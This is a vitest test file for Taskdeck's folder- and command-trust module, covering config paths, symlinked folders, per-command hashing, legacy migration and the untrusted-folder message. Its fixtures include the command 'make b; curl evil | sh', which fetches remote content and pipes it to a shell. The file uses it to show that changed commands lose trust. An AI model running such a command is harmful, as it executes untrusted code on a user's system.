import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { checkTrust, commandHash, configDir, isTrusted, trustFolder, untrustFolder, untrustedMessage } from './trust';

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'taskdeck-trust-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('trust', () => {
  it('finds its file from TASKDECK_CONFIG_DIR, then XDG_CONFIG_HOME, then ~/.config', () => {
    expect(configDir({ TASKDECK_CONFIG_DIR: '/a', XDG_CONFIG_HOME: '/b' })).toBe('/a');
    expect(configDir({ XDG_CONFIG_HOME: '/b' })).toBe('/b/taskdeck');
    expect(configDir({})).toMatch(/\.config\/taskdeck$/);
  });

  it('trusts a folder by its real path, so a symlink to it is trusted and nothing else is', () => {
    const env = { TASKDECK_CONFIG_DIR: join(root, 'config') };
    const project = join(root, 'project');
    const other = join(root, 'other');
    mkdirSync(project);
    mkdirSync(other);
    symlinkSync(project, join(root, 'link'));
    expect(isTrusted(project, env)).toBe(false);
    trustFolder(join(root, 'link'), new Date('2026-11-24T00:00:00Z'), env);
    expect(isTrusted(project, env)).toBe(true);
    expect(isTrusted(other, env)).toBe(false);
    const file = JSON.parse(readFileSync(join(root, 'config', 'trusted.json'), 'utf8'));
    expect(file.folders).toEqual([{ path: project, trustedAt: '2026-11-24T00:00:00.000Z', commands: {} }]);
    untrustFolder(project, env);
    expect(isTrusted(project, env)).toBe(false);
  });

  it('treats a missing or broken trust file as trusting nothing', () => {
    expect(isTrusted(root, { TASKDECK_CONFIG_DIR: join(root, 'nowhere') })).toBe(false);
  });

  it('trusts commands, not just the folder: a new or changed command is not trusted, a moved one is', () => {
    const env = { TASKDECK_CONFIG_DIR: join(root, 'config') };
    const project = join(root, 'project');
    mkdirSync(project);
    const now = new Date('2026-11-24T00:00:00Z');
    expect(checkTrust(project, [{ taskId: 'A-1', command: 'make a' }], env)).toEqual({
      folderTrusted: false,
      legacy: false,
      untrusted: [{ taskId: 'A-1', command: 'make a', change: 'added' }],
    });
    trustFolder(project, now, env, [{ taskId: 'A-1', command: 'make a' }, { taskId: 'A-2', command: 'make b' }], true);
    const stored = JSON.parse(readFileSync(join(root, 'config', 'trusted.json'), 'utf8'));
    expect(stored.folders[0].commands).toEqual({ 'A-1': commandHash('make a'), 'A-2': commandHash('make b') });
    const check = checkTrust(
      project,
      [
        { taskId: 'A-1', command: 'make a' },
        { taskId: 'A-2', command: 'make b; curl evil | sh' },
        { taskId: 'A-3', command: 'make c' },
        { taskId: 'A-4', command: 'make b' },
      ],
      env,
    );
    expect(check).toEqual({
      folderTrusted: true,
      legacy: false,
      untrusted: [
        { taskId: 'A-2', command: 'make b; curl evil | sh', change: 'changed' },
        { taskId: 'A-3', command: 'make c', change: 'added' },
      ],
    });
    // Trusting what the user saw (the dialog's list) adds to the set.
    trustFolder(project, now, env, check.untrusted);
    expect(checkTrust(project, [{ taskId: 'A-2', command: 'make b; curl evil | sh' }, { taskId: 'A-3', command: 'make c' }], env).untrusted).toEqual([]);
  });

  it('migrates a folder trusted by an older Taskdeck (no command list): every command is asked about once', () => {
    const env = { TASKDECK_CONFIG_DIR: join(root, 'config') };
    const project = join(root, 'project');
    mkdirSync(project);
    mkdirSync(join(root, 'config'));
    writeFileSync(join(root, 'config', 'trusted.json'), JSON.stringify({ version: 1, folders: [{ path: project, trustedAt: '2026-01-01T00:00:00.000Z' }] }));
    expect(isTrusted(project, env)).toBe(true);
    const check = checkTrust(project, [{ taskId: 'A-1', command: 'make a' }], env);
    expect(check).toEqual({ folderTrusted: true, legacy: true, untrusted: [{ taskId: 'A-1', command: 'make a', change: 'added' }] });
    expect(untrustedMessage(project, check)).toContain('older Taskdeck');
    trustFolder(project, new Date(), env, [{ taskId: 'A-1', command: 'make a' }], true);
    expect(checkTrust(project, [{ taskId: 'A-1', command: 'make a' }], env)).toEqual({ folderTrusted: true, legacy: false, untrusted: [] });
    expect(JSON.parse(readFileSync(join(root, 'config', 'trusted.json'), 'utf8')).version).toBe(2);
  });

  it('explains how to trust and lists what would run, marking new and changed commands', () => {
    const fresh = untrustedMessage('/p', { folderTrusted: false, legacy: false, untrusted: [{ taskId: 'A-1', command: 'make', change: 'added' }, { taskId: 'A-2', command: 'npm test', change: 'added' }] });
    expect(fresh).toContain('/p is not trusted');
    expect(fresh).toContain('A-1: make\n');
    expect(fresh).toContain('A-2: npm test\n');
    expect(fresh).toContain('taskdeck trust --project "/p"');
    const changed = untrustedMessage('/p', { folderTrusted: true, legacy: false, untrusted: [{ taskId: 'A-2', command: 'npm test -- --bail', change: 'changed' }] });
    expect(changed).toContain('a command was added or changed since');
    expect(changed).toMatch(/changed {2}A-2: npm test -- --bail/);
  });
});
